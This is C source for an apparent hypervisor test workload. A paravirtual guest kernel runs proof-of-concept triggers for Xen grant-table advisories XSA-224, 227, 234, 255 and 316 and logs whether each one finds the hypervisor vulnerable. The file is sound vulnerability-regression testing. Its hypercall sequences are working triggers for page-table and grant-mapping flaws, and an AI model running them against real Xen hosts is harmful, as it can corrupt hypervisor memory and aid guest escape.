/*
 * guest/grant_poc.c - the grant-poc workload: a PV kernel runs the XTF
 * proof of concept of one grant-table XSA (wl.xsa: 224, 227, 234, 255,
 * 316) against the hypervisor it runs on, and records what it found
 * (docs/grant.md, "The grant bug zoo"; the hypervisor side is the
 * grant.xsa* options).
 *
 * Rules:
 *   1. The PoC runs once, on vCPU 0, at workload start, in kernel mode; the
 *      workload is done when it returns (no processes).
 *   2. It reaches the hypervisor as a kernel does: grant entries written
 *      through the MMU into its mapped table frames (guest/gnttab.c's
 *      driver: gnttab_prepare, gnttab_grant_access, the mapping-area
 *      slots), hypercall arguments in the vCPU's argument area.  Calls the
 *      PoC expects may fail are made directly (not through the pv_hcall.c
 *      wrappers, which count every failure as an error).
 *   3. Outcome: the PoC's "Fail: Vulnerable" condition counts
 *      stats.poc_vulnerable; either way one kernel log line says what the
 *      kernel observed (XSA, call, result).  A step that fails in a way the
 *      PoC did not foresee (XTF's xtf_error) is a hypercall error: the PoC
 *      could not run, workload-ok breaks.
 *   4. After a vulnerable finding the kernel undoes what it can (unpins the
 *      frame it pinned) so that the domain can be torn down; what the old
 *      behaviour broke in the hypervisor stays for the audit to find.
 *   5. A memory access the PoC expects to fault (XSA-227) is made as a
 *      load under an exception-table fixup: the MMU walk's error code is
 *      read (mmu_translate) and no #PF reaches the kernel's handler.
 */
#include <stdarg.h>
#include <stdint.h>
#include <string.h>

#include <xen/grant_table.h>
#include <xen/xen.h>

#include "core/hypercall.h"
#include "core/mmu.h"
#include "core/vcpu.h"
#include "guest/private.h"

#define OP_OFF      ARG_EXT_OFF                 /* the op struct */
#define LIST_OFF    (ARG_EXT_OFF + 1024)        /* frame lists */
#define RO_FLAGS    (_PAGE_PRESENT | _PAGE_ACCESSED | _PAGE_DIRTY)
#define RW_FLAGS    (RO_FLAGS | _PAGE_RW)

/* Rule 3: a step the PoC did not foresee. */
static bool unexpected(struct gcpu *c, const char *what, long rc)
{
    atomic_fetch_add(&c->g->st.hypercall_errors, 1);
    klog(c->g, "grant-poc XSA-%u: %s: unexpected result %ld (the PoC could "
         "not run)", c->g->wl.xsa, what, rc);
    return false;
}

static void observed(struct gcpu *c, bool vulnerable, const char *fmt, ...)
    __attribute__((format(printf, 3, 4)));
static void observed(struct gcpu *c, bool vulnerable, const char *fmt, ...)
{
    char line[LOG_LINE];
    va_list ap;
    va_start(ap, fmt);
    vsnprintf(line, sizeof(line), fmt, ap);
    va_end(ap);
    if (vulnerable)
        atomic_fetch_add(&c->g->st.poc_vulnerable, 1);
    klog(c->g, "grant-poc XSA-%u: %s: %s", c->g->wl.xsa, line,
         vulnerable ? "Fail: VULNERABLE" : "not vulnerable");
}

/* GNTTABOP_cmd with one op in the argument area; *op is read back. */
static long gop(struct gcpu *c, unsigned cmd, void *op, size_t size)
{
    uint64_t va = c->arg_va + OP_OFF;
    if (mmu_write(c->v, va, op, size) != MMU_OK)
        return -XEN_EFAULT;
    long rc = hypercall(c->v, __HYPERVISOR_grant_table_op, cmd, va, 1, 0, 0);
    if (mmu_read(c->v, va, op, size) != MMU_OK)
        return -XEN_EFAULT;
    return rc;
}

static long ext(struct gcpu *c, unsigned cmd, mfn_t mfn)
{
    struct mmuext_op op;
    memset(&op, 0, sizeof(op));
    op.cmd = cmd;
    op.arg1.mfn = mfn;
    uint64_t va = c->arg_va + OP_OFF;
    if (mmu_write(c->v, va, &op, sizeof(op)) != MMU_OK)
        return -XEN_EFAULT;
    return hypercall(c->v, __HYPERVISOR_mmuext_op, va, 1,
                     c->arg_va + ARG_DONE_OFF, DOMID_SELF, 0);
}

static long uva(struct gcpu *c, uint64_t va, pte_t val)
{
    return hypercall(c->v, __HYPERVISOR_update_va_mapping, va, val,
                     UVMF_INVLPG | UVMF_LOCAL, 0, 0);
}

static int map(struct gcpu *c, grant_ref_t ref, uint32_t flags, uint64_t addr,
               grant_handle_t *h, uint64_t *bus)
{
    struct gnttab_map_grant_ref op;
    memset(&op, 0, sizeof(op));
    op.host_addr = addr;
    op.flags = flags;
    op.ref = ref;
    op.dom = c->g->domid;
    long rc = gop(c, GNTTABOP_map_grant_ref, &op, sizeof(op));
    if (rc)
        return (int)rc - 1000;          /* below every GNTST_* */
    if (h)
        *h = op.handle;
    if (bus)
        *bus = op.dev_bus_addr;
    return op.status;
}

static int unmap(struct gcpu *c, uint64_t addr, uint64_t bus,
                 grant_handle_t h)
{
    struct gnttab_unmap_grant_ref op;
    memset(&op, 0, sizeof(op));
    op.host_addr = addr;
    op.dev_bus_addr = bus;
    op.handle = h;
    long rc = gop(c, GNTTABOP_unmap_grant_ref, &op, sizeof(op));
    return rc ? (int)rc - 1000 : op.status;
}

/* A zeroed kernel page, mapped RW in the direct map. */
static bool poc_frame(struct gcpu *c, pfn_t *pfn, mfn_t *mfn)
{
    *pfn = pfn_alloc(c->g, PFN_KERNEL);
    if (*pfn == INVALID_PFN || pfn_zero(c, *pfn))
        return unexpected(c, "allocating a frame", -XEN_ENOMEM);
    *mfn = pfn_to_mfn(c, *pfn);
    return true;
}

static bool poc_grant(struct gcpu *c, domid_t to, mfn_t mfn, grant_ref_t *r)
{
    int rc = gnttab_grant_access(c, to, mfn, false, r);
    return rc ? unexpected(c, "writing a grant entry", rc) : true;
}

/* Two consecutive mapping-area slots in one L1. */
static bool poc_slots(struct gcpu *c, uint64_t *s0, uint64_t *s1)
{
    *s0 = gnttab_slot_alloc(c);
    *s1 = gnttab_slot_alloc(c);
    if (!*s0 || *s1 != *s0 + PAGE_SIZE || pt_index(*s1, 1) == 0)
        return unexpected(c, "two adjacent mapping slots", -XEN_ENOSPC);
    return true;
}

/* The pin that tells (XSA-224, XSA-234): 0 = vulnerable, then unpinned. */
static bool pin_tells(struct gcpu *c, mfn_t mfn, const char *why)
{
    long rc = ext(c, MMUEXT_PIN_L1_TABLE, mfn);
    if (rc == 0) {
        observed(c, true, "MMUEXT_PIN_L1_TABLE of mfn %#llx succeeded %s",
                 (unsigned long long)mfn, why);
        if (ext(c, MMUEXT_UNPIN_TABLE, mfn) != 0)
            return unexpected(c, "unpinning the frame again", -1);
        return true;
    }
    if (rc != -XEN_EINVAL)
        return unexpected(c, "MMUEXT_PIN_L1_TABLE", rc);
    observed(c, false, "MMUEXT_PIN_L1_TABLE of mfn %#llx is -EINVAL (%s)",
             (unsigned long long)mfn, "the frame is still writable");
    return true;
}

/* ---- the PoCs ------------------------------------------------------------- */

static bool poc224(struct gcpu *c)
{
    pfn_t pfn;
    mfn_t f;
    grant_ref_t r;
    uint64_t s0, s1, bus = 0;
    grant_handle_t h = 0;
    if (!poc_frame(c, &pfn, &f) || !poc_grant(c, c->g->domid, f, &r) ||
        !poc_slots(c, &s0, &s1))
        return false;
    int st = map(c, r, GNTMAP_host_map | GNTMAP_device_map, s0, &h, &bus);
    if (st != GNTST_okay)
        return unexpected(c, "host+device map", st);
    if ((st = unmap(c, s0, 0, h)) != GNTST_okay)
        return unexpected(c, "host unmap", st);
    if ((st = unmap(c, 0, (uint64_t)f << PAGE_SHIFT, h)) != GNTST_okay)
        return unexpected(c, "device unmap", st);
    if (!pin_tells(c, f, "after a host then a device unmap, while the "
                   "kernel maps it writable"))
        return false;
    return gnttab_end_access(c, r) == 0 ||
           unexpected(c, "ending the grant", -XEN_EBUSY);
}

static bool poc227(struct gcpu *c)
{
    pfn_t py, pz;
    mfn_t y, z;
    grant_ref_t ry, rz;
    uint64_t s0, s1;
    grant_handle_t ha = 0, hb = 0;
    if (!poc_frame(c, &py, &y) || !poc_frame(c, &pz, &z) ||
        !poc_grant(c, c->g->domid, y, &ry) ||
        !poc_grant(c, c->g->domid, z, &rz) || !poc_slots(c, &s0, &s1))
        return false;
    /* The neighbour entry (s0) maps y read-only. */
    int st = map(c, ry, GNTMAP_host_map | GNTMAP_readonly, s0, &ha, NULL);
    if (st != GNTST_okay)
        return unexpected(c, "read-only map of the neighbour", st);
    struct proc kernel = { .l4_pfn = c->g->init_l4_pfn };
    pfn_t l1;
    int rc = pt_walk(c, &kernel, s1, false, &l1);
    if (rc)
        return unexpected(c, "finding the slots' L1", rc);
    uint64_t maddr = ((uint64_t)pfn_to_mfn(c, l1) << PAGE_SHIFT) +
                     pt_index(s1, 1) * sizeof(pte_t) - 2;
    st = map(c, rz, GNTMAP_host_map | GNTMAP_contains_pte, maddr, &hb, NULL);
    bool mapped = st == GNTST_okay;
    if (!mapped && st != GNTST_general_error)
        return unexpected(c, "misaligned contains_pte map", st);
    mfn_t got;
    uint32_t pf = mmu_translate(c->v, s0, 0, &got);    /* rule 5 */
    bool rsvd = (pf & MMU_WALK_FAULT) && (pf & PFEC_RSVD);
    if (mapped || rsvd) {
        observed(c, true, "contains_pte map at maddr %#llx (2 bytes below an "
                 "L1e) gave status %d; a read of %#llx then %s",
                 (unsigned long long)maddr, st, (unsigned long long)s0,
                 rsvd ? "faulted with PFEC_RSVD (the neighbour L1e was "
                 "clobbered)" : "did not fault");
        return true;
    }
    if (pf)
        return unexpected(c, "reading the neighbour", (long)(pf & MMU_PFEC_MASK));
    observed(c, false, "contains_pte map at maddr %#llx is general_error; a "
             "read of %#llx did not fault", (unsigned long long)maddr,
             (unsigned long long)s0);
    if ((st = unmap(c, s0, 0, ha)) != GNTST_okay)
        return unexpected(c, "unmapping the neighbour", st);
    if (gnttab_end_access(c, ry) || gnttab_end_access(c, rz))
        return unexpected(c, "ending the grants", -XEN_EBUSY);
    return true;
}

static bool poc234(struct gcpu *c)
{
    pfn_t p1, p2;
    mfn_t f1, f2;
    grant_ref_t r1, r2;
    uint64_t s0, s1;
    grant_handle_t h1 = 0, h2 = 0;
    if (!poc_frame(c, &p1, &f1) || !poc_frame(c, &p2, &f2))
        return false;
    /* frame1's own mapping read-only: the kernel holds no writable ref. */
    long rc = uva(c, dm_va(p1), pte_make(f1, RO_FLAGS));
    if (rc)
        return unexpected(c, "remapping frame1 read-only", rc);
    if (!poc_grant(c, c->g->domid, f1, &r1) ||
        !poc_grant(c, c->g->domid, f2, &r2) || !poc_slots(c, &s0, &s1))
        return false;
    int st = map(c, r1, GNTMAP_host_map, s0, &h1, NULL);
    if (st != GNTST_okay)
        return unexpected(c, "writable map of frame1", st);
    st = map(c, r2, GNTMAP_host_map | GNTMAP_readonly, s1, &h2, NULL);
    if (st != GNTST_okay)
        return unexpected(c, "read-only map of frame2", st);
    /* Unmap frame2's mapping, stealing frame1's (writable) grant PTE. */
    struct gnttab_unmap_and_replace ur;
    memset(&ur, 0, sizeof(ur));
    ur.host_addr = s1;
    ur.new_addr = s0;
    ur.handle = h2;
    rc = gop(c, GNTTABOP_unmap_and_replace, &ur, sizeof(ur));
    if (rc)
        return unexpected(c, "unmap_and_replace", rc);
    if (ur.status != GNTST_okay) {
        /* Today's hypervisor keeps a grant PTE where it is: frame1 is
           still writably mapped, so it must not pin. */
        klog(c->g, "grant-poc XSA-234: unmap_and_replace stealing a grant "
             "PTE: status %d", ur.status);
        if (!pin_tells(c, f1, "while frame1 is grant-mapped writable"))
            return false;
        if ((st = unmap(c, s0, 0, h1)) != GNTST_okay ||
            (st = unmap(c, s1, 0, h2)) != GNTST_okay)
            return unexpected(c, "unmapping", st);
        return gnttab_end_access(c, r1) == 0 &&
               gnttab_end_access(c, r2) == 0 ? true
               : unexpected(c, "ending the grants", -XEN_EBUSY);
    }
    /* Point s0 at frame1 again, read-only, so the unmap's check passes. */
    rc = uva(c, s0, pte_make(f1, RO_FLAGS));
    if (rc)
        return unexpected(c, "re-pointing s0 at frame1", rc);
    st = unmap(c, s0, 0, h1);
    klog(c->g, "grant-poc XSA-234: unmap of frame1's grant at a read-only "
         "non-grant PTE: status %d", st);
    return pin_tells(c, f1, "while its stolen writable grant PTE is still "
                     "mapped");
}

static bool poc255(struct gcpu *c)
{
    uint64_t s0, s1;
    if (!poc_slots(c, &s0, &s1))
        return false;
    struct gnttab_setup_table su;
    memset(&su, 0, sizeof(su));
    su.dom = DOMID_SELF;
    su.nr_frames = 1;
    set_xen_guest_handle(su.frame_list,
                         (xen_pfn_t *)(uintptr_t)(c->arg_va + LIST_OFF));
    long rc = gop(c, GNTTABOP_setup_table, &su, sizeof(su));
    if (rc || su.status != GNTST_okay)
        return unexpected(c, "setup_table", rc ? rc : su.status);
    struct gnttab_set_version sv = { .version = 2 };
    if ((rc = gop(c, GNTTABOP_set_version, &sv, sizeof(sv))) != 0)
        return unexpected(c, "set_version 2", rc);
    struct gnttab_get_status_frames gs;
    memset(&gs, 0, sizeof(gs));
    gs.dom = DOMID_SELF;
    gs.nr_frames = 1;
    set_xen_guest_handle(gs.frame_list,
                         (uint64_t *)(uintptr_t)(c->arg_va + LIST_OFF));
    rc = gop(c, GNTTABOP_get_status_frames, &gs, sizeof(gs));
    uint64_t sf = 0;
    if (rc || gs.status != GNTST_okay ||
        mmu_read(c->v, c->arg_va + LIST_OFF, &sf, sizeof(sf)) != MMU_OK)
        return unexpected(c, "get_status_frames", rc ? rc : gs.status);
    /* Status frames are shared read-only (Xen's SHARE_ro). */
    if ((rc = uva(c, s0, pte_make(sf, RO_FLAGS))) != 0)
        return unexpected(c, "mapping the status frame", rc);
    sv.version = 1;
    rc = gop(c, GNTTABOP_set_version, &sv, sizeof(sv));
    if (rc == 0) {
        observed(c, true, "set_version 1 succeeded while status frame mfn "
                 "%#llx is mapped at %#llx (the kernel keeps it)",
                 (unsigned long long)sf, (unsigned long long)s0);
        return true;
    }
    if (rc != -XEN_EBUSY)
        return unexpected(c, "set_version 1", rc);
    observed(c, false, "set_version 1 is -EBUSY while status frame mfn %#llx "
             "is mapped", (unsigned long long)sf);
    if ((rc = uva(c, s0, 0)) != 0)
        return unexpected(c, "unmapping the status frame", rc);
    if ((rc = gop(c, GNTTABOP_set_version, &sv, sizeof(sv))) != 0)
        return unexpected(c, "set_version 1 after the unmap", rc);
    return true;
}

static bool poc316(struct gcpu *c)
{
    pfn_t pfn;
    mfn_t f;
    grant_ref_t r;
    uint64_t s0, s1;
    /* The entry names another domain, not the mapper. */
    domid_t other = c->g->domid ? 0 : 1;
    if (!poc_frame(c, &pfn, &f) || !poc_grant(c, other, f, &r) ||
        !poc_slots(c, &s0, &s1))
        return false;
    grant_handle_t h;
    int st = map(c, r, GNTMAP_host_map, s0, &h, NULL);
    if (st > 0)
        observed(c, true, "map of a grant entry naming d%u returned status "
                 "%d (positive)", other, st);
    else if (st == GNTST_general_error)
        observed(c, false, "map of a grant entry naming d%u returned "
                 "GNTST_general_error", other);
    else
        return unexpected(c, "map with a bad domid in the entry", st);
    return gnttab_end_access(c, r) == 0 ||
           unexpected(c, "ending the grant", -XEN_EBUSY);
}

void grant_poc_start(struct gcpu *c)
{
    struct guest_kernel *g = c->g;
    int rc = gnttab_prepare(c);
    if (rc)
        unexpected(c, "preparing the grant driver", rc);
    else
        switch (g->wl.xsa) {
        case 224: poc224(c); break;
        case 227: poc227(c); break;
        case 234: poc234(c); break;
        case 255: poc255(c); break;
        case 316: poc316(c); break;
        default:
            unexpected(c, "no PoC for this XSA", -XEN_EINVAL);
            break;
        }
    atomic_store(&g->done, true);
}
